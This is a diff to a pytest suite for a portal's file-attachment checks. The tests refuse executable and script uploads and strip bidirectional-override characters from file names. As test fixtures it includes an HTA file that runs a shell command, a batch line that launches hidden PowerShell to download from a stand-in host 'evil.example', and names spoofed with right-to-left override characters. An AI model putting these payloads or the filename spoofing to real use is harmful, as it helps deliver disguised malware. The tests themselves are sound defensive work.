@@ -40,19 +40,68 @@ def test_upload_is_stored_by_key_and_served_as_a_download(app, client, auth):
     assert download.headers["X-Content-Type-Options"] == "nosniff"
 
 
-@pytest.mark.parametrize("content,name", [
-    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200, "report.pdf"),
-    (b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "notes.txt"),
-    (b"PK\x03\x04" + b"\x00" * 100, "archive.docx"),
-    (b"", "empty.txt"),
+NOT_ALLOWED = ("Only PDF, Word, Excel, OpenDocument text, PNG, JPEG or plain text files can be "
+               "attached.")
+
+
+@pytest.mark.parametrize("content,name,message", [
+    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200, "report.pdf",
+     NOT_ALLOWED),
+    (b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "notes.txt", NOT_ALLOWED),
+    (b"PK\x03\x04" + b"\x00" * 100, "archive.docx", NOT_ALLOWED),
+    (b"", "empty.txt", "The file is empty."),
 ])
-def test_files_are_judged_by_content_not_name(app, client, auth, content, name):
+def test_files_are_judged_by_content_not_name(app, client, auth, content, name, message):
     rid = request_id(app, "DHR-2026-001", POLICE, "imr")
     auth.login("police@example.org")
     before = stored_files(app)
     assert attach(client, rid, content, name).status_code == 302
     assert attachment_ids(app, rid) == [] and stored_files(app) == before
-    assert "can be attached" in client.get(f"/portal/requests/{rid}").text or not content
+    assert message in client.get(f"/portal/requests/{rid}").text
+
+
+# Issue 8 finding 7: plain text that Windows runs as a program or script.
+HTA = (b'<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">\n'
+       b'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n</script></html>\n')
+BAT = b"@echo off\r\npowershell -nop -w hidden -c \"iwr http://evil.example/x\"\r\n"
+
+
+@pytest.mark.parametrize("content,name,extension", [
+    (HTA, "invoice.hta", "hta"),
+    (BAT, "minutes.pdf.bat", "bat"),
+    (b"MZ\x90\x00" + b"\x00" * 200, "report\u202efdp.exe", "exe"),  # shown as "reportexe.pdf"
+    (b"%PDF-1.4\n%%EOF\n", "report\u202efdp.exe", "exe"),  # even with PDF content
+    (b"Write-Host hi\n", "Notes.PS1", "ps1"),
+    (b"plain\n", "setup.js.txt", "js"),
+])
+def test_executable_and_script_names_are_refused_whatever_the_content(
+        app, client, auth, content, name, extension):
+    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
+    auth.login("police@example.org")
+    before = stored_files(app)
+    assert attach(client, rid, content, name).status_code == 302
+    assert attachment_ids(app, rid) == [] and stored_files(app) == before
+    page = client.get(f"/portal/requests/{rid}").text
+    assert f"Files ending in .{extension} cannot be attached" in page
+
+
+def test_a_bidirectional_override_is_removed_and_the_name_ends_as_the_content_is(
+        app, client, auth):
+    """"scan\u202egnp.txt" shows as "scantxt.png"; stored and downloaded without the override,
+    under a name ending in the type found in the content (plain text)."""
+    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
+    auth.login("police@example.org")
+    attach(client, rid, b"just notes\n", "scan\u202egnp.txt")
+    attach(client, rid, b"more notes\n", "minutes")
+    first, second = attachment_ids(app, rid)
+    with app.app_context():
+        assert db.session.get(FormAttachment, first).original_name == "scangnp.txt"
+        assert db.session.get(FormAttachment, second).original_name == "minutes.txt"
+    download = client.get(f"/portal/attachments/{second}")
+    assert download.data == b"more notes\n"
+    assert download.headers["Content-Disposition"] == "attachment; filename=minutes.txt"
+    page = client.get(f"/portal/requests/{rid}").text
+    assert "scangnp.txt" in page and "\u202e" not in page
 
 
 def test_html_is_only_ever_served_as_plain_text_download(app, client, auth):
@@ -62,7 +111,8 @@ def test_html_is_only_ever_served_as_plain_text_download(app, client, auth):
     [file_id] = attachment_ids(app, rid)
     download = client.get(f"/portal/attachments/{file_id}")
     assert download.headers["Content-Type"].startswith("text/plain")
-    assert download.headers["Content-Disposition"].startswith("attachment;")
+    assert download.headers["Content-Disposition"] == "attachment; filename=page.html.txt"
+    assert download.headers["X-Content-Type-Options"] == "nosniff"
 
 
 @pytest.mark.parametrize("app_config", [{"FORM_ATTACHMENT_MAX_BYTES": 1024}])
